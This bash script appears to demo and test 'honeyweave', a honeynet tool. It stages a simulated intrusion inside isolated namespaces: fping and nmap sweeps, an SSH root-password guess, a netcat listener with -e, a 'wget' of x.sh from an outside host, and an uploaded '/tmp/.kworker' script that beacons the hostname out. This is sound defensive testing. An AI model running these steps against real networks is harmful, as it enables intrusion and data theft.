#!/usr/bin/env bash
# An attack on a network that does not exist, in two network namespaces: the attacker's, and the wire's, where
# honeyweave runs topologies/office.yaml. Nothing of it touches the machine's own network.
#
# Exits 0 only if everything happened that should have. Leaves nothing behind but the image of the containers and
# the compiled program; KEEP=1 keeps what was recorded, too. Environment: HONEYWEAVE (the program to run instead of
# building one), DEMO_DIR (where images and state lie; /var/cache/honeyweave-demo).
set -euo pipefail
cd "$(dirname "$0")/.."
. demo/show.sh

topology=topologies/office.yaml
gateway=192.0.2.1 attacker=192.0.2.100
intranet=10.10.0.10 entered=10.10.0.23 cold=10.10.0.21 neighbor=10.10.0.26 outside=203.0.113.77
# The portal is the server whose SSH and HTTPS are read, the mirror where a sensor sees what passes to the servers.
portal=10.10.0.13 portal_name=portal.corp.example mirror=hw-servers
sweep_size=65536

if [ "$(id -u)" != 0 ]; then
    # Compile as oneself, so that target/ stays one's own.
    scripts/packages.sh demo
    [ -n "${HONEYWEAVE:-}" ] || cargo build --release --bin honeyweave
    echo "the demo makes network namespaces and containers: it goes on as root, by sudo"
    exec sudo HONEYWEAVE="${HONEYWEAVE:-$PWD/target/release/honeyweave}" KEEP="${KEEP:-}" "$0"
fi

scripts/packages.sh demo
if [ -z "${HONEYWEAVE:-}" ]; then
    say "building honeyweave (minutes when it is the first time)"
    cargo build --release --bin honeyweave
    HONEYWEAVE=$PWD/target/release/honeyweave
fi

# ---------------------------------------------------------------- two namespaces, and nothing left of them

name=demo-$$
dir=${DEMO_DIR:-/var/cache/honeyweave-demo}
state=$dir/$name
work=$(mktemp -d)
ns_attacker=hwdemo-$$-attacker ns_wire=hwdemo-$$-wire
weave='' follower='' sensor='' idle=''

# Not `ip netns exec`, which hides the cgroups that containers need.
from() { nsenter --net="/run/netns/$1" -- "${@:2}"; }
hw() { HONEYWEAVE_NAME=$name "$HONEYWEAVE" "$@"; }

nothing_of_it() {
    ! grep -q "/$name" /proc/mounts && ! pgrep -a -f "[ /]$name"
}

ended() {
    local tries=0
    while kill -0 "$1" 2>/dev/null; do
        [ $((tries += 1)) -le 150 ] || return 1
        sleep 0.1
    done
}

cleanup() {
    local code=$?
    trap '' INT TERM HUP
    for pid in $follower $sensor $idle; do
        kill "$pid" 2>/dev/null || true
    done
    if [ -n "$weave" ]; then
        kill -TERM "$weave" 2>/dev/null || true
        ended "$weave" || kill -KILL "$weave" 2>/dev/null || true
    fi
    ip netns del "$ns_attacker" 2>/dev/null || true
    ip netns del "$ns_wire" 2>/dev/null || true
    if [ "$code" != 0 ] && [ -s "$work/log" ]; then
        echo "what honeyweave said last:" >&2
        tail -n 20 "$work/log" >&2
    fi
    if [ -n "${KEEP:-}" ] && [ -d "$state" ]; then
        echo "kept: $state"
    else
        rm -rf "$state"
    fi
    rm -rf "$work"
    exit "$code"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM HUP

# What a demo that was killed has left.
for old in /run/netns/hwdemo-*; do
    pid=${old#/run/netns/hwdemo-} pid=${pid%%-*}
    [ ! -e "$old" ] || kill -0 "$pid" 2>/dev/null || ip netns del "${old#/run/netns/}" || true
done

title "1. A wire, and an attacker on it"
mkdir -p "$dir"
chmod 755 "$dir"
ip netns add "$ns_attacker"
ip netns add "$ns_wire"
from "$ns_wire" sysctl -q -w net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
ip link add eth0 netns "$ns_attacker" type veth peer name wire0 netns "$ns_wire"
from "$ns_wire" ip link set wire0 up
from "$ns_attacker" ip link set lo up
from "$ns_attacker" ip link set eth0 up
from "$ns_attacker" ip address add "$attacker/24" dev eth0
from "$ns_attacker" ip route add 10.0.0.0/8 via "$gateway"
say "the attacker is $attacker; its route to 10.0.0.0/8 leads to $gateway, where nothing is yet"

title "2. honeyweave up $topology"
"$HONEYWEAVE" check "$topology" 2>&1 | sed "s/^/    /"
# The first time only. Outside of the namespace, from which no package can be fetched.
"$HONEYWEAVE" image build "$topology" --state-dir "$dir" 2>&1 | sed -u "s/^/    /"
: >"$work/ready"
from "$ns_wire" "$HONEYWEAVE" up "$topology" --uplink wire0 --state-dir "$dir" --name "$name" \
    >"$work/ready" 2>"$work/log" </dev/null &
weave=$!
since=$SECONDS
until grep -q "^ready $name" "$work/ready"; do
    if ! kill -0 "$weave" 2>/dev/null; then
        weave=
        echo "honeyweave did not come up" >&2
        exit 1
    fi
    [ $((SECONDS - since)) -le 60 ] || { echo "honeyweave is not ready after a minute" >&2; exit 1; }
    sleep 0.1
done
say "it is ready"
nsenter --net="/run/netns/$ns_wire" -- tcpdump -i "$mirror" -Z root -n -U -w "$work/mirror.pcap" "host $portal" \
    >/dev/null 2>"$work/tcpdump" </dev/null &
sensor=$!

# Not a pipeline: its process must be known, to end it.
env HONEYWEAVE_NAME="$name" "$HONEYWEAVE" events ls -f --json --last 0 2>/dev/null </dev/null > >(show_events) &
follower=$!

# ---------------------------------------------------------------- the attack

title "3. Who is there? fping over the $sweep_size addresses of 10.1.0.0/16"
begin=$(now)
# In two halves: fping has 65,535 sequence numbers, and uses none again within ten seconds.
for half in "10.1.0.0 10.1.127.255" "10.1.128.0 10.1.255.255"; do
    # shellcheck disable=SC2086
    from "$ns_attacker" fping -a -g $half -i 0.05 -r 3 -t 1000 2>>"$work/fping.err" || true
done | tee "$work/alive" | show_progress "$sweep_size" "hosts have answered"
sweep_us=$(($(now) - begin))
answered=$(sort -u "$work/alive" | wc -l)
[ "$answered" != 0 ] || tail -n 5 "$work/fping.err" >&2
expect "every address of 10.1.0.0/16 answers ($answered of $sweep_size, $(seconds "$sweep_us") s)" \
    test "$answered" = "$sweep_size"

title "4. What runs there? nmap -sS of four of them"
some_desktop=10.1.44.7
from "$ns_attacker" nmap -n -Pn -sS -T4 --max-retries 3 -p 21-23,80,135,443,445,515,631,9100 -oG "$work/nmap" \
    "$intranet" "$entered" 10.20.0.50 "$some_desktop" >"$work/nmap.out" 2>&1 || true
open_ports() { sed -n "s/^Host: $1 .*Ports: //p" "$work/nmap" | tr ',' '\n' | awk -F/ '$2 == "open" {printf "%s%s", s, $1 + 0; s = ","}'; }
for host in "$intranet" "$entered" 10.20.0.50 "$some_desktop"; do
    say "$(printf '%-12s open: %s' "$host" "$(open_ports "$host")")"
done
expect "the intranet server has port 80 and no other" test "$(open_ports "$intranet")" = 80
expect "the shell server has port 22" test "$(open_ports "$entered")" = 22
expect "the printer has its four ports" test "$(open_ports 10.20.0.50)" = 80,515,631,9100
expect "a half-open scan has started no container" test "$(count container.start)" = 0

title "5. curl http://$intranet/"
from "$ns_attacker" curl -sS -m 10 -D "$work/headers" "http://$intranet/" >"$work/page" || true
say "$(tr -d '\r' <"$work/headers" | sed -n '1p; /^[Ss]erver/p' | paste -sd ' ')   $(head -c 100 "$work/page")"
expect "the intranet shows its page" grep -q '<h1>Intranet</h1>' "$work/page"

title "6. ssh into hosts that do not exist until then"
# shellcheck disable=SC2016
from "$ns_attacker" bash -c '
    t0=${EPOCHREALTIME/./}
    exec 3<>"/dev/tcp/$1/22"
    t1=${EPOCHREALTIME/./}
    IFS= read -r -t 20 -u 3 banner
    t2=${EPOCHREALTIME/./}
    echo "$((t1 - t0)) $((t2 - t0)) ${banner%$'"'\r'"'}"' - "$cold" >"$work/cold" 2>"$work/cold.err" || true
read -r handshake_us first_byte_us banner <"$work/cold" || true
say "$cold: handshake after $(millis "${handshake_us:-0}") ms, first byte of its container after $(millis "${first_byte_us:-0}") ms: ${banner:-nothing}"
expect "a cold host greets as an SSH server" grep -q ' SSH-2.0-' "$work/cold"

shell() {
    from "$ns_attacker" sshpass -p toor ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o ConnectTimeout=15 "root@$1" "$2" </dev/null
}
# shellcheck disable=SC2016
shell "$entered" 'echo "$(id -un)@$(hostname)  $(ip -4 -o addr show eth0 | awk "{print \$4}")  peer ${SSH_CONNECTION%% *}"' \
    >"$work/login" 2>&1 || true
say "$(cat "$work/login")"
expect "root's password is guessed at $entered" grep -q '^root@' "$work/login"
expect "the container has the address that was attacked" grep -q " $entered/" "$work/login"
expect "the container sees the attacker's own address" grep -q "peer $attacker" "$work/login"

title "7. From inside: a listener, a sweep, a scan, and the next host"
shell "$entered" 'setsid nc -l -p 4444 -e /bin/hostname </dev/null >/dev/null 2>&1 &' || true
# shellcheck disable=SC2016
from "$ns_attacker" bash -c '
    # It may take a moment to listen.
    for _ in $(seq 20); do
        if exec 3<>"/dev/tcp/$1/4444"; then cat <&3; exit; fi
        sleep 0.1
    done' - "$entered" >"$work/listener" 2>/dev/null || true
say "port 4444 of $entered, opened by the intruder, says: $(head -n 1 "$work/listener")"
expect "what the intruder opens is reachable from outside" test "$(cat "$work/listener")" = shells-04
shell "$entered" 'nmap -n -sn 10.10.0.0/24' >"$work/inside" 2>&1 || true
inside=$(grep -c '^Host is up' "$work/inside" || true)
say "nmap -sn 10.10.0.0/24: $inside hosts: $(sed -n 's/^Nmap scan report for 10.10.0//p' "$work/inside" | paste -sd ' ')"
# The router, four servers, eight shells (this one among them), the build server.
expect "the sweep finds its 14 neighbors" test "$inside" = 14
shell "$entered" 'nmap -n -sS -Pn -p 21-23,80 -oG - 10.10.0.10-12' >"$work/nmap" 2>&1 || true
say "nmap -sS: $(for host in 10.10.0.10 10.10.0.11 10.10.0.12; do printf '%s open %s; ' "$host" "$(open_ports "$host")"; done)"
expect "the scan finds web, FTP and telnet" \
    test "$(open_ports 10.10.0.10) $(open_ports 10.10.0.11) $(open_ports 10.10.0.12)" = "80 21 23"
shell "$entered" "nc -w 10 $neighbor 22 </dev/null | head -n 1" >"$work/next" 2>&1 || true
say "$neighbor, touched from inside: $(tr -d '\r' <"$work/next" | head -c 60)"
expect "the neighbor comes to life, too" grep -q '^SSH-2.0-' "$work/next"
shell "$entered" "ping -c 2 -W 3 $outside" >"$work/outside" 2>&1 || true
say "ping $outside (outside of the honeynet): $(grep -o '[0-9]* packets received' "$work/outside" || true)"
expect "what leaves the honeynet is answered inside of it" grep -q '[12] packets received' "$work/outside"

title "8. ssh, scp and curl to $portal_name, where somebody is in the middle"
into=(-q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=15)
# What is waited for, a tab, what is typed then.
cat >"$work/typed" <<END
password: 	123456
password: 	toor
:~# 	id; uname -a
:~# 	cat backup.conf
:~# 	wget -qO- http://$intranet/phones.txt
:~# 	wget http://$outside/x.sh
:~# 	exit
END
from "$ns_attacker" /usr/bin/python3 demo/typist.py "$work/typed" ssh "${into[@]}" "root@$portal" \
    2>&1 | tee "$work/screen" | show_screen || true
expect "the second password is the right one" grep -q 'uid=0(root)' "$work/screen"
expect "from there the intranet's telephone list is read" grep -q 'it desk 117' "$work/screen"
# shellcheck disable=SC2016
printf '#!/bin/sh\nid\nwget -qO /dev/null http://%s/gate?host=$(hostname)\n' "$outside" >"$work/kworker"
digest=$(sha256sum "$work/kworker" | cut -d ' ' -f 1)
from "$ns_attacker" sshpass -p toor scp "${into[@]}" "$work/kworker" "root@$portal:/tmp/.kworker" </dev/null || true
shell "$portal" 'chmod +x /tmp/.kworker; /tmp/.kworker; sha256sum /tmp/.kworker' >"$work/kworker.out" 2>&1 || true
sed 's/^/    /' "$work/kworker.out"
expect "what scp has brought runs there" grep -q "^$digest" "$work/kworker.out"
from "$ns_attacker" curl -skv -m 10 -u 'backup:Winter2024!' -A Mozilla/5.0 --resolve "$portal_name:443:$portal" "https://$portal_name/" \
    >"$work/page" 2>"$work/tls" || true
sed -n 's/^\* \(SSL connection\|  *subject:\|  *issuer:\) */    \1 /p' "$work/tls"
expect "the certificate is for its name" grep -q "subject: .*CN=$portal_name" "$work/tls"
expect "within TLS there is the portal's page" grep -q '<h1>Portal</h1>' "$work/page"
# Who is still there when everything ends.
nsenter --net="/run/netns/$ns_attacker" -- sshpass -p toor ssh "${into[@]}" "root@$portal" 'echo here; sleep 600' \
    >"$work/idle" 2>&1 </dev/null &
idle=$!

# ---------------------------------------------------------------- what is known about it

title "9. What honeyweave knows"
# Events are written with their batch; the last ones need a moment to arrive.
for _ in $(seq 20); do
    [ "$(count container.live)" -lt 4 ] || [ "$(count_sessions)" -lt "$sweep_size" ] || [ ! -s "$work/idle" ] || break
    sleep 0.2
done
hw status --json >"$work/status" || echo '{}' >"$work/status"
hw show drops --json >"$work/drops" || echo '[]' >"$work/drops"
kill "$follower" 2>/dev/null || true
wait "$follower" 2>/dev/null || true
follower=
sessions=$(jq ".summary.sessions_started // 0" "$work/status") started=$(count container.start) live=$(count container.live)
failed=$(count container.failed) lost=$(count_lost)
records=$(cat "$state"/events/events*.ndjson | wc -l)
mapfile -t captures < <(find "$state/captures" -name '*.pcapng' -size +0)
capture_bytes=$(cat "${captures[@]}" /dev/null | wc -c)
guarded=$(count guard.block)

expect "every host that was met is a session" test "$sessions" -ge "$sweep_size"
expect "four containers came to life, and none failed" test "$live:$failed" = 4:0
expect "no event was lost" test "$lost" = 0
expect "frames were captured, of the wire and of each container" test "${#captures[@]}" -ge 5
kill "$sensor" 2>/dev/null || true
wait "$sensor" 2>/dev/null || true
sensor=
seen() { tcpdump -r "$work/mirror.pcap" -n "$1" 2>/dev/null | wc -l; }
to=$(seen "tcp and src host $attacker") back=$(seen "tcp and dst host $attacker")
say "tcpdump at the mirror $mirror saw $to TCP segments for the portal and $back of it"
expect "a sensor sees both directions" test "$to" -gt 50 -a "$back" -gt 50
sent() { jq .event.sequence "$state/sinks/siem.json" | sort; }
meant() { jq 'select((.event | test("^(ssh|shell|tls|container)[.]") or . == "service.login") and .event != "container.file") | .seq' \
    "$state"/events/events*.ndjson | sort; }
for _ in $(seq 50); do
    # A line may be on its way, of which jq complains.
    meant >"$work/meant" || true
    sent >"$work/sent" || true
    ! cmp -s "$work/meant" "$work/sent" || break
    sleep 0.1
done
say "the sink siem.json, in the form of ECS, has $(wc -l <"$work/sent") events: $(jq -r .event.action "$state/sinks/siem.json" |
    sort | uniq -c | sort -rn | awk '{printf "%s%d %s", s, $1, $2; s = ", "}' | cut -c 1-90)…"
expect "the sink has every event that it is for, once" cmp -s "$work/meant" "$work/sent"

title "10. honeyweave session ls, show and replay"
hw session ls --attacker "$attacker" --host "$portal" --state-dir "$dir" | sed 's/^/    /'
id=$(hw session ls --attacker "$attacker" --host "$portal" --state-dir "$dir" --json | jq -r '.[0].session')
hw session show "$id" --state-dir "$dir" >"$work/shown" || true
echo
show_parts 'attempts to log in|commands without|requests|files that moved|commands in .*0001' <"$work/shown"
expect "each password that was tried is there" grep -Eq ' 123456 +no$' "$work/shown"
expect "so is what scp has brought" grep -q "upload .*/tmp/.kworker .*$digest" "$work/shown"
expect "so is what was said within TLS" grep -q ' GET /$' "$work/shown"
say "and twenty times as fast as it was:"
hw session replay "$id" --state-dir "$dir" --speed 20 --terminal | tee "$work/replay" | show_screen || true
expect "the replay shows what the attacker saw" grep -q 'password = Winter2024!' "$work/replay"

title "11. honeyweave down"
begin=$(now)
hw down || true
if ended "$weave"; then code=0; wait "$weave" || code=$?; weave=; else code=timeout; fi
say "it ended after $(seconds $(($(now) - begin))) s"
expect "it ended by itself" test "$code" = 0
expect "no interface is left on the wire but its own" \
    test "$(from "$ns_wire" ip -br link | awk '{print $1}' | sed 's/@.*//' | sort | paste -sd ' ')" = "lo wire0"
expect "no mount and no process is left" nothing_of_it

title "12. What is left: files, of which one goes to whoever investigates"
hw session diff "$id" --state-dir "$dir" >"$work/diff" || true
sed 's/^/    /' "$work/diff"
expect "what the intruder has changed is known" grep -q "${digest:0:12}  /tmp/.kworker  .executable" "$work/diff"
export HONEYWEAVE_PASSWORD=demo
hw session export "$id" --state-dir "$dir" -o "$work/evidence.tar.zst.age" | sed "s|$work/|    |" || true
hw session verify "$work/evidence.tar.zst.age" --state-dir "$dir" >"$work/verified" 2>&1 && code=0 || code=$?
cut -c "1-${COLUMNS:-116}" "$work/verified" | sed 's/^/    /'
expect "the bundle is as its signature says" test "$code" = 0
records=$(cat "$state"/events/events*.ndjson | wc -l)
# By the system's own Python, for which the package is.
valid=$(/usr/bin/python3 demo/valid.py docs/events.schema.json "$state"/events/events*.ndjson) && code=0 || code=$?
expect "every record, from the first to the last, is as its JSON Schema says" test "$code:$valid" = "0:$records"
expect "jq reads every record" test "$(jq -n '[inputs | select(.v == 1)] | length' "$state"/events/events*.ndjson)" = "$records"
lacking=$(for event in session.start icmp.echo tcp.open tcp.close service.request service.login tls.hello container.start container.live \
    container.exec container.file container.login container.destroyed outward.reflect ssh.hello ssh.login ssh.shell ssh.command \
    ssh.file ssh.close shell.command evidence.taken; do
    [ "$(count "$event")" != 0 ] || echo "$event"
done)
cut_off=$(jq -n '[inputs | select(.event == "tcp.close" and .reason == "honeynet-ended")] | length' "$state"/events/events*.ndjson)
expect "among them are those of the middle and of the end${lacking:+, but no $lacking}" test -z "$lacking" -a "$cut_off" -gt 0

title "Summary"
row "hosts that answered the sweep" "$(thousands "$answered") of $(thousands "$sweep_size"), in $(seconds "$sweep_us") s ($(thousands $((sweep_size * 1000000 / sweep_us))) a second)"
row "sessions" "$(thousands "$sessions")"
row "containers" "$started started, $live came to life, $failed failed"
row "handshake with a cold host" "$(millis "${handshake_us:-0}") ms"
row "first byte of its container" "$(millis "${first_byte_us:-0}") ms after the connection was asked for"
row "events recorded" "$(thousands "$records"), $lost lost"
row "captures" "${#captures[@]} pcapng files, $(thousands "$capture_bytes") bytes"
row "kept off the wire by the guard" "$guarded"
row "frames discarded" "$(jq -r 'group_by(.reason) | map({reason: .[0].reason, n: map(.count) | add}) | sort_by(-.n)
    | map("\(.n) \(.reason)") | if length == 0 then "none" else join(", ") end' "$work/drops")"
row "checks" "$passed passed, $broken failed"
[ "$broken" = 0 ] || { echo "NOT everything happened that should have" >&2; exit 1; }
say "everything happened that should have"
